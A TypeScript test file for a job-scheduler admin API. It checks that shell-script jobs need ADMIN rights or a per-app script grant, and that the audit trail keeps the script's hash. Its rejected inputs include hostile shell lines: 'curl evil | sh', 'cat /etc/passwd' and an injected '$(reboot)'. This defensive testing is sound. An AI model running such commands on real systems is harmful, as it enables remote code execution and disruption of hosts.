import { createHash } from 'node:crypto';
import { expect } from 'chai';
import { createAdminStack, type AdminStack } from '../helpers/admin-stack.js';
import type { ApiClient } from '../helpers/api-client.js';

interface Job {
  id: number;
  script: { language: string; source: string; sha256: string } | null;
}
interface AuditPage {
  items: { action: string; username: string; targetId: string | null; app: string | null; after: { script?: { sha256?: string } | null } | null }[];
}

const sha256 = (s: string) => createHash('sha256').update(s, 'utf8').digest('hex');

describe('script (GLUE) jobs need a permission of their own: ADMIN or a script grant for the app', function () {
  this.timeout(30_000);
  let s: AdminStack;
  let admin: ApiClient;
  let plain: ApiClient;
  let granted: ApiClient;
  let adminScript: Job;
  let handlerJob: Job;

  before(async () => {
    s = await createAdminStack();
    admin = await s.signIn();
    await admin.ok('POST', '/api/v1/apps', { name: 'alpha', title: 'Alpha' });
    await admin.ok('POST', '/api/v1/users', { username: 'plain', password: 'plain-operator', role: 'OPERATOR', apps: ['alpha'] });
    await admin.ok('POST', '/api/v1/users', { username: 'coder', password: 'coder-operator', role: 'OPERATOR', apps: ['alpha'], scriptApps: ['alpha'] });
    plain = await s.signIn('plain', 'plain-operator');
    granted = await s.signIn('coder', 'coder-operator');
    adminScript = await admin.ok<Job>('POST', '/api/v1/jobs', {
      app: 'alpha', name: 'by-admin', schedule: { type: 'NONE' }, script: { language: 'shell', source: 'echo admin' },
    });
    handlerJob = await admin.ok<Job>('POST', '/api/v1/jobs', { app: 'alpha', name: 'handler', handler: 'h', schedule: { type: 'NONE' } });
  });
  after(async () => {
    await s?.close();
  });

  const scriptBody = (name: string, source = 'id; cat /etc/passwd') => ({ app: 'alpha', name, schedule: { type: 'NONE' }, script: { language: 'shell', source } });

  it('an OPERATOR without the grant may not create, edit or add a script', async () => {
    const create = await plain.call('POST', '/api/v1/jobs', scriptBody('evil'));
    expect(create.status).to.equal(403);
    expect(create.body).to.include({ code: 'OASIS_ERR_FORBIDDEN' });
    expect((await plain.call('PUT', `/api/v1/jobs/${adminScript.id}`, { script: { language: 'shell', source: 'curl evil | sh' } })).status).to.equal(403);
    expect((await plain.call('PUT', `/api/v1/jobs/${handlerJob.id}`, { script: { language: 'shell', source: 'echo 1' } })).status).to.equal(403);
    // Any change of a script job is an edit of it (its params reach the script too).
    expect((await plain.call('PUT', `/api/v1/jobs/${adminScript.id}`, { params: '$(reboot)' })).status).to.equal(403);
    // The jobs are as they were.
    expect((await admin.ok<Job>('GET', `/api/v1/jobs/${adminScript.id}`)).script?.source).to.equal('echo admin');
    expect((await admin.ok<Job>('GET', `/api/v1/jobs/${handlerJob.id}`)).script).to.equal(null);
    // Operating a script job stays an OPERATOR's right.
    expect((await plain.call('POST', `/api/v1/jobs/${adminScript.id}/stop`, {})).status).to.equal(200);
    // And plain handler jobs are untouched by the rule.
    expect((await plain.call('PUT', `/api/v1/jobs/${handlerJob.id}`, { params: 'x' })).status).to.equal(200);
  });

  it('an OPERATOR with the grant may, and the audit trail keeps the source hash', async () => {
    const source = 'echo "granted"';
    const job = await granted.ok<Job>('POST', '/api/v1/jobs', scriptBody('coded', source));
    expect(job.script).to.deep.equal({ language: 'shell', source, sha256: sha256(source) });
    await granted.ok('PUT', `/api/v1/jobs/${adminScript.id}`, { script: { language: 'shell', source: 'echo v2' } });
    let entries: AuditPage['items'] = [];
    for (let i = 0; i < 40 && entries.length < 2; i++) {
      entries = (await admin.ok<AuditPage>('GET', '/api/v1/audit?user=coder&limit=50')).items.filter((e) => e.action.startsWith('job.'));
      if (entries.length < 2) await new Promise((r) => setTimeout(r, 50));
    }
    const created = entries.find((e) => e.action === 'job.create');
    const updated = entries.find((e) => e.action === 'job.update');
    expect(created?.after?.script?.sha256).to.equal(sha256(source));
    expect(updated?.after?.script?.sha256).to.equal(sha256('echo v2'));
  });
});
